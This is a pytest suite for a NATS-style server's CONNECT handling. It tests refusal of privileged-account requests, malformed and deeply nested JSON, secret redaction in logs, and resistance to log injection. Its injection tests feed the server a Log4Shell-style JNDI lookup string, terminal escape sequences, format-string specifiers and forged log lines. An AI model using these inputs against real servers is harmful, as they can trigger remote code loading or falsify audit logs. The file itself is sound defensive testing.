"""What a CONNECT may say, what it may not, and what of it may never be seen again."""

import json
import re

import pytest

from hostile.witness import MIB, until, wait_rss_below

CANARY = "Canary" + "7f3a"
LOG = ("-DV",)


def connect_line(obj):
    text = obj if isinstance(obj, bytes) else json.dumps(obj).encode()
    return b"CONNECT " + text + b"\r\nPING\r\n"


def answer(server, obj):
    """All that a connection that says this CONNECT, and PING, gets before it is closed; or what it has with its PONG."""
    with server.raw() as c:
        c.send(connect_line(obj))
        while c.fill():
            if b"PONG\r\n" in c.buf:
                break
        return bytes(c.buf)


@pytest.mark.parametrize("account", [
    {"account": "$SYS"}, {"account": "$G"}, {"account": "A", "user": "u", "pass": "p"}, {"new_account": True},
    {"account": "A", "new_account": True}, {"ACCOUNT": "$SYS"}, {"Account": "$SYS", "verbose": False},
], ids=str)
def test_A8_CONNECT_never_chooses_an_account(server, witness, account):
    assert answer(server, {"verbose": False, **account}) == b"-ERR 'Authorization Violation'\r\n"


def test_A8_what_was_subscribed_before_is_gone_with_it(server, witness):
    """A refused second CONNECT ends the connection: none of its subscriptions receives any more."""
    with server.raw() as c:
        c.connect()
        c.send(b"SUB a8 1\r\n")
        c.ping()
        c.send(b'CONNECT {"account":"$SYS"}\r\n')
        c.expect_err("Authorization Violation")
        c.expect_close()
    with server.raw() as c:
        c.connect(headers=True, no_responders=True)
        c.send(b"SUB back 1\r\nPUB a8 back 0\r\n\r\n")
        assert c.read_op().headers.startswith(b"NATS/1.0 503")


def test_A8_an_empty_account_is_no_account(server, witness):
    assert answer(server, {"verbose": False, "account": "", "new_account": False}) == b"PONG\r\n"


DEEP = {
    "arrays": b'{"x":' + b"[" * 100 + b"]" * 100 + b"}",
    "objects": b'{"x":' + b'{"x":' * 100 + b"1" + b"}" * 100 + b"}",
    "open_arrays": b'{"x":' + b"[" * 4000,
    "33": b'{"x":' + b"[" * 32 + b"]" * 32 + b"}",
}


@pytest.mark.parametrize("name", DEEP)
def test_S9_connect_json_nesting_beyond_32_is_refused(server, witness, name):
    """Whatever key it stands behind."""
    assert answer(server, DEEP[name]) == b""


def test_S9_connect_json_nesting_up_to_32_is_accepted(server, witness):
    assert answer(server, b'{"verbose":false,"x":' + b"[" * 31 + b"]" * 31 + b"}") == b"PONG\r\n"


BAD_JSON = [
    b"", b"{", b"[]", b"1", b'"x"', b"true", b"{} {}", b"{},", b'{"verbose":1}', b'{"verbose":"true"}', b'{"protocol":1.0}',
    b'{"protocol":"1"}', b'{"name":5}', b'{"name":[]}', b'{"user":{}}', b"{'verbose':false}", b'{"verbose":false,}', b'{"a" 1}',
    b'{"a":01}', b'{"a":+1}', b'{"a":NaN}', b'{"a":"\\q"}', b'{"a":"\\u12"}', b'{"protocol":99999999999999999999}', b'{"a":tru}',
    b'{"a":"\t"}', b"{\x00}", b'{"a":1}\x00', b"\xef\xbb\xbf{}",
]


@pytest.mark.parametrize("text", BAD_JSON, ids=repr)
def test_a_CONNECT_that_does_not_decode_closes_without_a_word(server, text):
    assert answer(server, text) == b""
    server.check_serves()


def test_C6_the_last_of_duplicate_keys_holds_and_case_does_not_matter(server, witness):
    """One accessor decides, also about security: the last `account` in any case is the one that counts."""
    assert answer(server, b'{"verbose":true,"verbose":false}') == b"PONG\r\n"
    assert answer(server, b'{"verbose":false,"VERBOSE":true}').startswith(b"+OK\r\n")
    assert answer(server, b'{"verbose":false,"account":"","ACCOUNT":"$SYS"}') == b"-ERR 'Authorization Violation'\r\n"
    assert answer(server, b'{"verbose":false,"account":"$SYS","account":""}') == b"PONG\r\n"
    assert answer(server, b'{"verbose":false,"protocol":7,"protocol":1}').startswith(b"PONG\r\n")


def test_a_CONNECT_of_the_longest_kind_is_taken_and_one_byte_more_is_not(server, witness):
    """max_control_line counts the JSON: 4096 bytes of it are accepted."""
    frame = b'{"verbose":false,"name":"%b"}'
    fill = 4096 - len(frame % b"")
    assert answer(server, frame % (b"n" * fill)) == b"PONG\r\n"
    assert answer(server, frame % (b"n" * (fill + 1))) == b"-ERR 'maximum control line exceeded'\r\n"


def test_a_CONNECT_repeated_leaves_nothing_behind(server, witness):
    """5,000 CONNECTs with 3 KB of strings on one connection: the old strings go with the new ones."""
    with server.raw() as c:
        c.connect()
        line = connect_line({"verbose": False, "name": "n" * 3000, "lang": "l" * 500})
        c.send(line * 50)
        for _ in range(50):
            c.expect(b"PONG\r\n")
        before = server.rss()
        for _ in range(100):
            c.send(line * 50)
            for _ in range(50):
                c.expect(b"PONG\r\n")
        wait_rss_below(server, before + 4 * MIB)


# --- secrets --------------------------------------------------------------------------------------------------

SECRET_KEYS = ["pass", "auth_token", "jwt", "sig", "nkey", "proxy_sig", "tls_key", "seed", "private_key", "PASS", "Auth_Token", "password"]


def no_canary(server):
    """Whatever was logged until now is here, and the secret is not in it, in no spelling."""
    mark = server.mark()
    with server.raw() as c:
        c.connect(name="fence-of-the-log")
    server.wait_log("fence-of-the-log", since=mark)
    seen = server.log()
    for form in (CANARY, CANARY.lower(), CANARY.encode().hex()):
        assert form not in seen, next(line for line in seen.splitlines() if form in line)
    return seen


@pytest.mark.parametrize("key", SECRET_KEYS)
def test_F12_no_secret_of_CONNECT_reaches_the_log(start_server, served, key):
    """With every line traced: accepted, refused, malformed, too long, cut, and never ended."""
    server = start_server(*LOG)
    served(server)
    value = CANARY + "x" * 20
    good = {"verbose": False, "user": "somebody", key: value}
    texts = [
        json.dumps(good).encode(),
        json.dumps({**good, "account": "$SYS"}).encode(),
        json.dumps({**good, "protocol": 9}).encode(),
        json.dumps({"verbose": False, key: {"inner": value}}).encode(),
        json.dumps({"verbose": False, key: [value]}).encode(),
        json.dumps(good).encode()[:-1],                      # no end
        json.dumps(good).encode() + b"}",                    # one end too many
        json.dumps(good).encode().replace(b'"', b"'"),       # not JSON at all
        json.dumps({**good, "name": "n" * 5000}).encode(),   # too long
        json.dumps({"name": "n" * 5000, **good}).encode(),
        json.dumps(good).encode() + b"\rX",                  # a bare CR: the parser's snippet
        b'{"%b" : "%b", "%b":"%b"}' % (key.encode(), value.encode(), key.encode(), value.encode()),
    ]
    for text in texts:
        answer(server, text)
    for line in (b"CONNECT" + texts[0] + b"\r\nPING\r\n", b"connect\t" + texts[0] + b"\nPING\r\n", b"CONNEXT " + texts[0] + b"\r\n"):
        with server.raw() as c:
            c.send(line)
            while c.fill() and not c.buf.endswith(b"PONG\r\n"):
                pass
    with server.raw() as c:
        c.send(b"CONNECT " + texts[0])
    seen = no_canary(server)
    if key.lower() in ("pass", "auth_token", "jwt", "sig", "nkey", "proxy_sig"):
        assert "[REDACTED]" in seen  # it was traced, and shown as what it is


def test_A2_key_material_in_unknown_fields_is_ignored_and_not_shown(start_server, served):
    """CVE-2020-26149: a client library sent its private key inside CONNECT."""
    server = start_server(*LOG)
    served(server)
    key = f"-----BEGIN PRIVATE KEY-----\n{CANARY}\n-----END PRIVATE KEY-----\n"
    with server.raw() as c:
        c.connect(name="a2-client", tls={"key": key, "cert": "c", "ca": "a"}, nkeySeed="SU" + CANARY, options={"pass": CANARY})
        c.ping()
    seen = no_canary(server)
    assert "PRIVATE KEY" not in seen
    assert "a2-client" in seen


# --- the log -----------------------------------------------------------------------------------------------------

FORGED = "[INF] Server is ready"
NASTY = [b"\x1b[2J\x1b[31m", b"\x07", b"\x00", b"\x7f", b"\x9b31m", b"${jndi:ldap://example.com/a}", b"%n%s%p", b"\xe2\x80\xae"]


def raw_lines(server, since):
    return [line for line in server.log(since).split("\n")]


def test_A45_no_peer_writes_a_line_of_its_own_into_the_log(start_server, served):
    """Control bytes in a subject, a queue, a payload, a name, an unknown verb, an -ERR: escaped, each on its one line."""
    server = start_server(*LOG)
    served(server)
    mark = server.mark()
    for nasty in NASTY:
        with server.raw() as c:
            name = nasty.decode("latin-1") + "\n" + FORGED
            c.connect(name=name, lang=name, version=name)
            c.send(b"SUB s%b q%b i%b\r\n" % (nasty, nasty, nasty))
            c.send(b"PUB s%b r%b 40\r\n%b\r\n" % (nasty, nasty, (b"\r\n" + FORGED.encode() + nasty).ljust(40)[:40]))
            c.send(b"UNSUB i%b\r\n" % nasty)
            c.send(b"PUB _GR_.x%b 0\r\n\r\n" % nasty)
            c.send(b"SUB a..%b 1\r\n" % nasty)
            c.fence()
        for data in (b"-ERR '%b'\r\n" % nasty, nasty + b"\n" + FORGED.encode() + b"\r\n", b"PUB a %b\r\n" % nasty, b"SUB %b\r\n" % nasty,
                     b"HPUB a %b 1\r\n" % nasty, b"INFO {%b}\r\n" % nasty, b"CONNECT {%b}\r\n" % nasty):
            with server.raw() as c:
                c.send(b'CONNECT {"verbose":false,"headers":true}\r\n' + data + b"+BAD\r\n")
                c.read_until_close()
    with server.raw() as c:
        c.connect(name="end-of-nasty")
    server.wait_log("end-of-nasty", since=mark)
    for line in raw_lines(server, mark):
        assert re.match(r"\[\d+\] \d{4}/\d\d/\d\d \d\d:\d\d:\d\d\.\d{6} \[[A-Z]{3}\] ", line), f"a forged line: {line!r}"
        assert all(" " <= ch <= "~" for ch in line), f"control or 8-bit bytes in the log: {line!r}"
    assert FORGED in server.log(mark)  # it was there, inside a line
    assert "${jndi:" in server.log(mark)


def test_A45_payloads_are_cut_in_the_log(start_server, served):
    """A trace of a 1 MiB message is a line, not a megabyte."""
    server = start_server(*LOG)
    served(server)
    mark = server.mark()
    with server.raw() as c:
        c.connect()
        for _ in range(3):
            c.send(b"PUB big 1048576\r\n" + b"\xff" * 1048576 + b"\r\n")
        c.ping()
    server.wait_log(r"PUB big 1048576", since=mark)
    until(lambda: server.log(mark).count("[PUB big 1048576]") == 3, "three lines")
    assert max(map(len, raw_lines(server, mark))) < 17_000
